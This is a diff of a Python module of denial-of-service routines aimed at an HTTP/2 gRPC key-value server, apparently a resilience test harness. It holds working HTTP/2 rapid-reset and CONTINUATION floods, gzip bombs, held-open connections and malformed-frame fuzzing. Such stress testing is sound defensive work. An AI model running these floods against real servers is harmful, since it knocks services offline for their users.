@@ -15,10 +15,11 @@ import socket
 import ssl
 import time
 
-import http2
 import http2_client
-from http2 import CANCEL, KV, MOST_DATA, field, header_block, literal, message
-from http2_client import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, frame)
+import kv_messages
+from http2_client import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, MAX_FRAME,
+                          announced, frame, framed, header, request_headers)
+from kv_messages import SERVICE, field
 
 ATTACKS = {}
 OVER_TLS = set()  # attacks that need a server with TLS
@@ -27,6 +28,7 @@ REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
 ADMIN = "/lodgekv.v1.AdminService/"
 # Not the address of the well-behaved client: a peer that is disconnected too often is refused.
 SOURCE = "127.0.0.2"
+SECONDS = 20  # that a server may keep a connection waiting
 
 
 @dataclasses.dataclass
@@ -58,7 +60,9 @@ def dial(address):
 
 
 def connection(address, **options):
-    return http2.Connection(address, source=SOURCE, **options)
+    one = http2_client.Client(address, SOURCE, seconds=SECONDS, **options)
+    one.await_acknowledgement()
+    return one
 
 
 def keep(most, make, is_gone, deadline):
@@ -78,7 +82,7 @@ def with_calls(address, count, path, payload, **options):
     """A connection with so many calls under way."""
     one = connection(address, **options)
     for _ in range(count):
-        one.call(path, payload)
+        one.request(path, payload)
     return one
 
 
@@ -117,7 +121,8 @@ def connections_one_after_another(target, deadline):
 @attack
 def callers_who_never_leave(target, deadline):
     """A call on each connection, which is then kept."""
-    made = keep(900, lambda: with_calls(target.data, 1, KV + "Get", field(1, b"key"), reads=False),
+    get = kv_messages.get(b"key")
+    made = keep(900, lambda: with_calls(target.data, 1, SERVICE + "Get", get, reads=False),
                 lambda one: is_cut(one.socket), deadline)
     return f"{made:,} connections with one Get each, kept open"
 
@@ -179,8 +184,8 @@ def flood(target_address, deadline, first, chunk):
 
 
 def continuation_flood(address, deadline):
-    block = literal("x", "y" * 100) * 150
-    first = frame(HEADERS, 0, 1, header_block(KV + "Get"))
+    block = header(b"x", b"y" * 100) * 150
+    first = frame(HEADERS, 0, 1, request_headers(SERVICE + "Get"))
     return flood(address, deadline, first, frame(CONTINUATION, 0, 1, block) * 16)
 
 
@@ -198,8 +203,8 @@ def continuation_flood_on_the_health_port(target, deadline):
 def a_header_without_end(target, deadline):
     """One string, announced with 16 MiB, in CONTINUATION frames."""
     length = b"\x7f" + b"\x81\xff\xff\x07"  # 16 MiB
-    first = frame(HEADERS, 0, 1, header_block(KV + "Get") + b"\x00\x01x" + length)
-    return flood(target.data, deadline, first, frame(CONTINUATION, 0, 1, b"y" * MOST_DATA) * 4)
+    first = frame(HEADERS, 0, 1, request_headers(SERVICE + "Get") + b"\x00\x01x" + length)
+    return flood(target.data, deadline, first, frame(CONTINUATION, 0, 1, b"y" * MAX_FRAME) * 4)
 
 
 @attack
@@ -208,12 +213,12 @@ def announced_and_unfinished_messages(target, deadline):
     size = 5 << 20
     streams = sent = 0
     for _ in until(deadline):
-        with contextlib.suppress(OSError), http2_client.Client(target.data, SOURCE) as client:
-            numbers = [client.start_call(KV + "BatchWrite")
-                       for _ in range(min(120, client.max_streams or 0))]  # 0: cut before
+        with contextlib.suppress(OSError), connection(target.data) as client:
+            numbers = [client.start_call(SERVICE + "BatchWrite")
+                       for _ in range(min(120, client.max_streams))]
             streams += len(numbers)
             for number in numbers:
-                client.send(frame(DATA, 0, number, message(b"\0" * size)[:5]))
+                client.send(frame(DATA, 0, number, announced(size)))
             left = dict.fromkeys(numbers, size - 1)
             while client.ended is None and time.monotonic() < deadline:
                 moved = 0
@@ -227,15 +232,12 @@ def announced_and_unfinished_messages(target, deadline):
 
 @attack
 def gzip_bombs(target, deadline):
-    bomb = message(gzip.compress(b"\0" * (256 << 20), 9), compressed=True)
+    bomb = framed(gzip.compress(b"\0" * (256 << 20), 9), compressed=True)
     calls = 0
     for _ in until(deadline):
         with contextlib.suppress(OSError):
             one = connection(target.data)
-            stream = one.next_stream()
-            one.send(frame(HEADERS, END_HEADERS, stream,
-                           header_block(KV + "Put", grpc_encoding="gzip")))
-            one.send_data(stream, bomb)
+            one.send_all(one.start_call(SERVICE + "Put", grpc_encoding="gzip"), bomb)
             calls += 1
             time.sleep(0.3)
             one.close()
@@ -251,7 +253,7 @@ def batches_of_nothing(target, deadline):
         with contextlib.suppress(OSError):
             one = connection(target.data)
             for _ in until(deadline):
-                one.call(KV + "BatchWrite", payload)
+                one.request(SERVICE + "BatchWrite", payload)
                 calls += 1
                 time.sleep(0.05)
     return f"{calls:,} batches of 2,650,000 empty operations"
@@ -260,7 +262,7 @@ def batches_of_nothing(target, deadline):
 # --- resets ---
 
 def rapid_reset(address, path, deadline):
-    block = header_block(path)
+    block = request_headers(path)
     streams = connections = 0
     for _ in until(deadline):
         with contextlib.suppress(OSError):
@@ -269,9 +271,9 @@ def rapid_reset(address, path, deadline):
             for _ in until(deadline):
                 parts = []
                 for _ in range(64):
-                    number = one.next_stream()
+                    number = next(one.streams)
                     parts.append(frame(HEADERS, END_HEADERS | END_STREAM, number, block))
-                    parts.append(frame(RST_STREAM, 0, number, CANCEL))
+                    parts.append(http2_client.reset(number))
                 one.send(b"".join(parts))
                 streams += 64
     return f"{streams:,} streams reset over {connections:,} connections"
@@ -279,7 +281,7 @@ def rapid_reset(address, path, deadline):
 
 @attack
 def rapid_reset_of_gets(target, deadline):
-    return rapid_reset(target.data, KV + "Get", deadline)
+    return rapid_reset(target.data, SERVICE + "Get", deadline)
 
 
 @attack
@@ -307,7 +309,7 @@ def rapid_reset_on_the_admin_port(target, deadline):
 @attack
 def scans_that_nobody_reads(target, deadline):
     """Three hundred, over twenty connections whose windows are open and whose sockets are full."""
-    keep(20, lambda: with_calls(target.data, 15, KV + "Scan", b"", window=(1 << 31) - 1,
+    keep(20, lambda: with_calls(target.data, 15, SERVICE + "Scan", b"", window=(1 << 31) - 1,
                                 reads=False, receive_buffer=4_096), is_reset, deadline)
     return "300 Scans over 20 connections"
 
@@ -326,7 +328,7 @@ def answers_that_nobody_takes(target, deadline):
             if len(held) < 41:
                 one = connection(target.data, window=0)
                 for _ in range(200):
-                    one.call(KV + "Get", field(1, b"key000000"))
+                    one.request(SERVICE + "Get", kv_messages.get(b"key000000"))
                     calls += 1
                 held.append(one)
                 continue
@@ -341,7 +343,7 @@ def batches(target, deadline, payload):
         with contextlib.suppress(OSError):
             one = connection(target.data)
             for _ in until(deadline):
-                one.call(KV + "BatchWrite", payload)
+                one.request(SERVICE + "BatchWrite", payload)
                 calls += 1
     return calls
 
@@ -355,8 +357,8 @@ def batches_over_the_limit(target, deadline):
 @attack
 def batches_with_a_wrong_end(target, deadline):
     """All of each is parsed before its last operation, without a key, shows the error."""
-    payload = b"".join(field(1, b"\x08\x01" + field(2, b"key%06d" % n)) for n in range(1_023))
-    calls = batches(target, deadline, payload + field(1, b"\x08\x01"))
+    right = kv_messages.batch_of_empty_puts(b"key%06d" % n for n in range(1_023))
+    calls = batches(target, deadline, right + field(1, kv_messages.PUT_KIND))
     return f"{calls:,} batches whose 1,024th operation is wrong"
 
 
@@ -365,7 +367,7 @@ def streams_of_reflection(target, deadline):
     def make():
         one = connection(target.admin)
         for _ in range(60):
-            one.send(frame(HEADERS, END_HEADERS, one.next_stream(), header_block(REFLECTION)))
+            one.start_call(REFLECTION)
         return one
 
     keep(8, make, lambda one: False, deadline)
@@ -380,7 +382,7 @@ def checks_in_a_loop(target, deadline):
     for _ in until(deadline):
         with contextlib.suppress(OSError):
             for one in held:
-                one.call(ADMIN + "Check", b"")
+                one.request(ADMIN + "Check")
                 calls += 1
         time.sleep(0.01)
     return f"{calls:,} Checks over 8 connections"
@@ -409,5 +411,5 @@ def malformed_frames(target, deadline):
                     payload = os.urandom(rng.randrange(0, 200))
                     raw.sendall(frame(rng.randrange(0, 12), rng.randrange(256),
                                       rng.randrange(0, 9), payload))
-                raw.close()
+                (one or raw).close()
     return f"{connections:,} connections with random frames"
